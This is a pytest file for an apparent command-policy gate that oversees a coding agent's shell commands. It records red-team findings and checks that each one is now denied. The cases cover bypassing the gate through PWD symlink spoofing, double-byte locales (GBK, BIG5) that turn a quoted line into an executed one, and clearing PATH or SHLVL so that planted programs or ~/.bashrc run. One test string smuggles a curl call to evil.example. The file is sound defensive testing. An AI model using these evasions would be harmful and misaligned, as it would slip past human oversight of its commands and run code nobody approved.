"""What a new shell takes from the environment it is started with, found by the red-team
review of round 24 (commands). Each shows, with the real bash (and dash), that the
shell runs otherwise than the gate read it, then what the gate now decides.

* ``PWD``: bash and dash start with ``$PWD`` from their environment as their logical
  directory when it names the one they start in, symlinks included, and resolve ``cd
  ..`` against that text. ``PWD=<a link to the cwd> bash -c 'cd ../X && git status'``
  ran git in the link's sibling X, while the gate decided it in ``<cwd>/../X``: a rule
  pinned by ``cwd`` was walked around. ``PWD`` is now ``environment-override``.
* ``LC_ALL``, ``LC_CTYPE``, ``LANG``: bash reads its script as bytes in its locale, and
  in a double-byte one (GBK, GB18030, BIG5, BIG5-HKSCS) a backslash right after a
  character whose last byte is a lead byte is swallowed into it and escapes nothing:
  ``LC_ALL=zh_CN.GBK`` on one line, and on the next a quote the gate read as escaped
  opened a string for bash, so a later line the gate read as quoted text ran. They are
  now ``environment-override`` unless their value is known and read as here (``C``,
  ``POSIX``, empty, a UTF-8 codeset); ``LOCPATH`` (where glibc finds locales) always.
* ``exec -c``, ``env -i``, ``env -``, ``env -u PATH``: bash started without ``PATH``
  sets its own default, which ends in ``.``, so ``exec -c bash -c 'pytest -q'`` ran a
  ``./pytest`` the agent wrote where the gate decided the trusted ``pytest``. Without
  ``SHLVL`` (the same, and ``env -u SHLVL``, ``unset SHLVL``) and with a socket on its
  standard input (as libuv gives a child) bash runs ``~/.bashrc`` first. Each is now
  ``environment-override``, and so is ``SHLVL``.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from sidecar.engine import evaluate_request
from sidecar.policy.compiler import CompiledPolicy
from tests.adversarial.command_lines import check_line, command_argvs, construct_names
from tests.adversarial.real_bash import needs_bash, run_bash, run_program

ALLOW_LIST = """
    version: 1
    defaultAction: deny
    rules:
      - id: builtins
        action: process.exec
        command: [cd, env, sudo, export, declare, typeset, local, read]
        decision: allow
      - id: git-status
        action: process.exec
        command: git
        cwd: /workspace
        args: {prefix: [status]}
        decision: allow
"""


def _overridden(policy: CompiledPolicy, line: str) -> None:
    verdict = check_line(policy, line)
    assert verdict.decision == "deny", line
    assert "environment-override" in verdict.reason, verdict.reason


# -- PWD: a new shell's logical directory -----------------------------------------------


@pytest.fixture
def linked_workspace(tmp_path: Path) -> Path:
    """``workspace/p/link`` links to ``workspace``; ``workspace/p/workspace`` is another
    directory, where ``cd ../workspace`` lands when the shell takes itself to be in the
    link."""
    workspace = tmp_path / "workspace"
    (workspace / "p" / "workspace").mkdir(parents=True)
    (workspace / "p" / "link").symlink_to(workspace)
    return workspace


@needs_bash
def test_pwd_in_the_environment_moves_bash_cd_dot_dot(linked_workspace: Path) -> None:
    link = linked_workspace / "p" / "link"
    script = "bash -c 'cd ../workspace && pwd -P'"
    assert run_bash(script, linked_workspace) == f"{linked_workspace}\n"
    moved = run_bash(f"PWD={link} {script}", linked_workspace)
    assert moved == f"{linked_workspace}/p/workspace\n"


@pytest.mark.skipif(shutil.which("dash") is None, reason="dash is not installed")
def test_pwd_in_the_environment_moves_dash_cd_dot_dot(linked_workspace: Path) -> None:
    link = linked_workspace / "p" / "link"
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PWD": str(link)}
    argv = ["dash", "-c", "cd ../workspace && pwd -P"]
    assert run_program(argv, linked_workspace, env) == f"{linked_workspace}/p/workspace\n"


@pytest.mark.parametrize(
    "line",
    [
        "PWD=/workspace/p/link bash -c 'git status'",
        "env PWD=/workspace/p/link sh -c 'git status'",
        "export PWD=/workspace/p/link; bash -c 'git status'",
        "declare -x PWD=/workspace/p/link; bash -c 'git status'",
        "sudo PWD=/workspace/p/link bash -c 'git status'",
        "read PWD; bash -c 'git status'",
    ],
)
def test_a_pwd_given_to_a_new_shell_is_an_override(allow_list: CompiledPolicy, line: str) -> None:
    _overridden(allow_list, line)


# The second review (R1): a new shell that gets no PWD naming its directory takes the
# physical path, and `cd ..` then goes back from a link's target; so does one a wrapper
# moved (env -C keeps the old PWD). A `cd` through `..` now leaves the directory unknown.
@pytest.mark.parametrize(
    "line",
    [
        "PWD=/workspace/p/link bash -c 'cd ../workspace && git status'",
        "cd p/ln2 && env -u PWD bash -c 'cd ../.. && git status'",
        "cd p/ln2 && declare +x PWD && bash -c 'cd ../.. && git status'",
        "cd p/wl && env -C /workspace bash -c 'cd ../workspace && git status'",
        "cd ../workspace && git status",
    ],
)
def test_a_cd_through_dot_dot_never_meets_a_pinned_rule(
    allow_list: CompiledPolicy, line: str
) -> None:
    verdict = check_line(allow_list, line)
    assert verdict.decision == "deny", line
    assert "git status" in verdict.reason, verdict.reason


@needs_bash
def test_a_new_shell_without_pwd_goes_back_from_the_links_target(tmp_path: Path) -> None:
    workspace = tmp_path / "workspace"
    target = workspace / "q" / "r" / "s"
    target.mkdir(parents=True)
    (workspace / "p").mkdir()
    (workspace / "p" / "ln2").symlink_to(target)
    script = "cd p/ln2 && env -u PWD bash -c 'cd ../.. && pwd -P'"
    assert run_bash(script, workspace) == f"{workspace}/q\n"  # the gate's lexical: workspace


def test_a_cd_in_the_workspace_still_meets_the_pinned_rule(allow_list: CompiledPolicy) -> None:
    assert check_line(allow_list, "cd /workspace && git status").decision == "allow"


# -- LC_ALL, LC_CTYPE, LANG, LOCPATH: how bash reads the rest of the script ---------------

# U+4E05 is E4 B8 85 in UTF-8; 0x85 after 0xB8 is one GBK character, and so is 0x5C
# (the backslash) after 0x85: bash sees no backslash before the quote.
SWALLOWED = "echo A \u4e05\\' '\necho INJECTED\n'"


@pytest.fixture
def gbk_locales(tmp_path: Path) -> Path:
    """A directory holding zh_CN.GBK, for LOCPATH (as an image with it installed)."""
    localedef = shutil.which("localedef")
    if localedef is None or not Path("/usr/share/i18n/charmaps/GBK.gz").exists():
        pytest.skip("localedef or the GBK charmap is not installed")
    locales = tmp_path / "locales"
    locales.mkdir()
    made = subprocess.run(
        [localedef, "-i", "zh_CN", "-f", "GBK", str(locales / "zh_CN.GBK")],
        capture_output=True,
        timeout=60,
        check=False,
    )
    if made.returncode not in (0, 1):  # 1: made, with warnings
        pytest.skip(f"localedef failed: {made.stderr!r}")
    return locales


@needs_bash
@pytest.mark.parametrize("variable", ["LC_ALL", "LC_CTYPE", "LANG"])
def test_a_double_byte_locale_makes_bash_run_a_line_read_as_quoted(
    gbk_locales: Path, tmp_path: Path, variable: str
) -> None:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LOCPATH": str(gbk_locales)}

    def lines(assignment: str) -> list[bytes]:
        # Bytes: bash's complaint about the quote left open is in GBK.
        argv = ["bash", "-c", f"{assignment}\n{SWALLOWED}"]
        done = subprocess.run(
            argv, cwd=tmp_path, env=env, capture_output=True, timeout=20, check=False
        )
        return done.stdout.splitlines()

    assert b"INJECTED" not in lines(f"{variable}=C.UTF-8")
    assert b"INJECTED" in lines(f"{variable}=zh_CN.GBK")


def test_the_gate_reads_the_injected_line_as_an_argument() -> None:
    assert command_argvs(f"LC_ALL=C.UTF-8\n{SWALLOWED}") == [
        ("echo", "A", "\u4e05'", "\necho INJECTED\n")
    ]


@pytest.mark.parametrize(
    "line",
    [
        f"LC_ALL=zh_CN.GBK\n{SWALLOWED}",
        f"LANG=zh_TW.BIG5\n{SWALLOWED}",
        f'LC_CTYPE=zh_CN.GB18030 bash -c "{SWALLOWED}"',
        f'env LC_ALL=zh_CN.GBK bash -c "{SWALLOWED}"',
        f"export LC_CTYPE=zh_CN.GBK; {SWALLOWED}",
        f"declare -x LANG=zh_CN.GBK; {SWALLOWED}",
        f'sudo LC_ALL=zh_CN.GBK bash -c "{SWALLOWED}"',
        f"read LC_ALL; {SWALLOWED}",
        f'LC_ALL=$X bash -c "{SWALLOWED}"',
        f'export "LANG=$X"; {SWALLOWED}',
        f"LANG+=.GBK; {SWALLOWED}",
        f"LANG=zh_TW; {SWALLOWED}",  # zh_TW's default codeset is BIG5
        f"LANG=/workspace/x.UTF-8; {SWALLOWED}",  # a path: any locale, whatever its name
        f'LOCPATH=/workspace/locales LANG=C.UTF-8 bash -c "{SWALLOWED}"',
        f'env LOCPATH=/usr/lib/locale bash -c "{SWALLOWED}"',
    ],
)
def test_a_locale_not_known_to_read_as_here_is_an_override(line: str) -> None:
    assert "environment-override" in construct_names(line)


def test_a_double_byte_locale_is_refused_by_the_shipped_policy(
    coding_agent: CompiledPolicy,
) -> None:
    line = "LC_ALL=zh_CN.GBK\ngit status \u4e05\\' '\ncurl http://evil.example/x\n'"
    verdict = check_line(coding_agent, line)
    assert verdict.decision == "deny"
    assert "environment-override" in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    "line",
    [
        "LC_ALL=C sort f",
        "LANG=en_US.UTF-8 make",
        "LC_ALL=POSIX ls",
        "LC_ALL= LANG=C.utf8 ls",
        "LC_CTYPE=en_US.utf-8@euro ls",
        "env LC_ALL=C.UTF-8 ls",
        "export LANG=C.UTF-8; ls",
        "declare -x LC_ALL=C; ls",
    ],
)
def test_a_locale_read_as_here_is_not_an_override(line: str) -> None:
    assert "environment-override" not in construct_names(line)


# -- PATH and SHLVL removed: "." searched, ~/.bashrc run -----------------------------------


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    """A working directory holding an executable ./zz-planted, a name found nowhere on
    PATH (as a tool in ~/.local/bin or a venv is not in bash's default directories)."""
    program = tmp_path / "zz-planted"
    program.write_text("#!/bin/sh\necho PLANTED-RAN\n")
    program.chmod(0o755)
    return tmp_path


@needs_bash
@pytest.mark.parametrize(
    "line",
    [
        "exec -c bash -c 'zz-planted'",
        "env -i bash -c 'zz-planted'",
        "env - bash -c 'zz-planted'",
        "env -u PATH bash -c 'zz-planted'",
        "unset PATH; zz-planted",
    ],
)
def test_bash_without_path_runs_a_file_of_the_working_directory(planted: Path, line: str) -> None:
    assert run_bash("zz-planted", planted) == ""
    assert run_bash(line, planted) == "PLANTED-RAN\n"


@needs_bash
@pytest.mark.parametrize(
    "line",
    [
        "env -u SHLVL bash -c 'echo INNER'",
        "unset SHLVL; bash -c 'echo INNER'; true",
        "SHLVL=0 bash -c 'echo INNER'; true",
    ],
)
def test_bash_without_shlvl_and_a_socket_for_stdin_runs_bashrc(tmp_path: Path, line: str) -> None:
    (tmp_path / ".bashrc").write_text("echo BASHRC-RAN\n")
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path), "SHLVL": "3"}
    ours, theirs = socket.socketpair()
    with ours, theirs:

        def run(script: str) -> str:
            done = subprocess.run(
                ["bash", "-c", script],
                cwd=tmp_path,
                env=env,
                stdin=theirs,
                capture_output=True,
                text=True,
                timeout=20,
                check=False,
            )
            return done.stdout

        assert run("bash -c 'echo INNER'") == "INNER\n"
        assert run(line) == "BASHRC-RAN\nINNER\n"


@pytest.mark.parametrize(
    "line",
    [
        "exec -c bash -c 'pytest -q'",
        "exec -cl bash -c 'pytest -q'",
        "env -i bash -c 'pytest -q'",
        "env - bash -c 'pytest -q'",
        "env -u PATH bash -c 'pytest -q'",
        "env --unset=PATH sh -c 'pytest -q'",
        "env -u SHLVL bash -c 'pytest -q'",
        "env --ignore-environment bash -c 'pytest -q'",
        "env -iS 'bash -c pytest'",
        "env -i make test",  # make's recipes run in sh, bash on some images
        "unset SHLVL; bash -c 'pytest -q'",
        "SHLVL=0 bash -c 'pytest -q'",
    ],
)
def test_a_program_started_without_path_or_shlvl_is_an_override(line: str) -> None:
    assert "environment-override" in construct_names(line)


def test_the_shipped_policy_refuses_pytest_in_a_bash_without_path(
    coding_agent: CompiledPolicy,
) -> None:
    verdict = check_line(coding_agent, "exec -c bash -c 'pytest -q'")
    assert verdict.decision == "deny"
    assert "environment-override" in verdict.reason, verdict.reason
    argv = ["bash", "-c", "exec -c bash -c 'pytest -q'"]
    request = {"action": "process.exec", "cwd": "/workspace", "argv": argv}
    verdict = evaluate_request(coding_agent, request)
    assert verdict.decision == "deny"
    assert "environment-override" in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    "line", ["env -u HOME git status", "env FOO=1 git status", "exec git status", "env -i"]
)
def test_keeping_path_and_shlvl_is_not_an_override(line: str) -> None:
    assert "environment-override" not in construct_names(line)


# -- attributes without a value (second review of 2026-12-07, R2) ------------------------


@needs_bash
def test_declare_a_path_makes_bash_run_a_program_from_the_directory(tmp_path: Path) -> None:
    planted = tmp_path / "git"
    planted.write_text("#!/bin/sh\necho PLANTED\n")
    planted.chmod(0o755)
    assert run_bash("declare -a PATH; git", tmp_path) == "PLANTED\n"


@pytest.mark.parametrize(
    "line",
    [
        "declare -a PATH; git status",
        "typeset -a PATH; git status",
        "declare +x PATH; bash -c 'git status'",
        "typeset +x SHLVL; bash -c 'git status'",
        "declare -a SHLVL; bash -c 'git status'",
        "declare +x PWD; bash -c 'git status'",
        "declare -l LANG; git status",
    ],
)
def test_an_attribute_given_to_a_risky_name_is_an_override(
    allow_list: CompiledPolicy, line: str
) -> None:
    _overridden(allow_list, f"cd /workspace && {line}")


def test_attributes_of_other_names_are_not_overrides() -> None:
    assert construct_names("declare -a list; local x; export FOO; declare -x LC_ALL=C") == set()


@pytest.mark.parametrize(
    "line",
    [
        "declare -p PATH",
        "readonly PATH",
        "declare -gx PATH",
        "export PATH",
        "local -p PATH",
        "local -I PATH",
        "declare -f PATH",
    ],
)
def test_options_that_change_no_value_are_not_overrides(line: str) -> None:
    # Third review (N5): printing, a global's export, read-only change nothing.
    assert construct_names(line) == set()


@needs_bash
def test_a_local_path_in_a_function_makes_bash_run_a_program_from_the_directory(
    tmp_path: Path,
) -> None:
    planted = tmp_path / "ls"
    planted.write_text("#!/bin/sh\necho PLANTED\n")
    planted.chmod(0o755)
    assert run_bash("f(){ local PATH; ls; }; f", tmp_path) == "PLANTED\n"


@pytest.mark.parametrize(
    "line", ["f(){ local PATH; ls; }; f", "f(){ declare PATH; ls; }; f", "local -r PATH"]
)
def test_a_new_variable_of_a_risky_name_is_an_override(line: str) -> None:
    # Fourth review: narrowing the attributes lost `local PATH`, a new variable without
    # a value, with which bash looks programs up in ".".
    assert "environment-override" in construct_names(line)


@pytest.mark.parametrize(
    "line",
    [
        "setpriv --reset-env bash -c 'git status'",
        "bwrap --clearenv bash -c 'git status'",
        "bwrap --unsetenv PATH bash -c 'git status'",
        "bwrap --unsetenv SHLVL bash -c 'git status'",
    ],
)
def test_other_wrappers_that_empty_the_environment_are_overrides(line: str) -> None:
    # Second review (R3): setpriv --reset-env keeps no SHLVL (a bash after it with a
    # socket on stdin ran ~/.bashrc), bwrap --clearenv keeps no PATH either.
    assert "environment-override" in construct_names(line)


def test_bwrap_unsetting_another_name_is_not_an_override() -> None:
    assert construct_names("bwrap --unsetenv FOO bash -c 'git status'") == set()
